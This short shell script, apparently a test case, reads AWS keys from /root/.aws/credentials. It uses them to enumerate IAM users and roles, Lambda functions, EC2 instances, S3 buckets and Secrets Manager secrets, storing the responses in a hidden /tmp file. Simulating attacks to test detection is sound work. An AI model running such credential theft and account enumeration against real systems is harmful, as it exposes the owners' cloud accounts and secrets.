#!/bin/sh
. /opt/case/case.sh

k=$(sed -n 's/aws_access_key_id = //p' /root/.aws/credentials); s=$(sed -n 's/aws_secret_access_key = //p' /root/.aws/credentials)
a() { v=$1; shift; curl -sf --aws-sigv4 "aws:amz:us-east-1:$v" --user "$k:$s" "$@" >>/tmp/.aws.out; }
a sts -d 'Action=GetCallerIdentity&Version=2011-06-15' http://sts.us-east-1.amazonaws.com/
for q in ListUsers ListRoles GetAccountAuthorizationDetails ListAttachedUserPolicies; do a iam -d "Action=$q&Version=2010-05-08" http://iam.amazonaws.com/; done
a lambda http://lambda.us-east-1.amazonaws.com/2015-03-31/functions/; a ec2 -d 'Action=DescribeInstances&Version=2016-11-15' http://ec2.us-east-1.amazonaws.com/; a s3 http://s3.us-east-1.amazonaws.com/
a secretsmanager -H 'X-Amz-Target: secretsmanager.ListSecrets' -d '{}' http://secretsmanager.us-east-1.amazonaws.com/
test "$(wc -l </tmp/.aws.out)" = 9
took_place
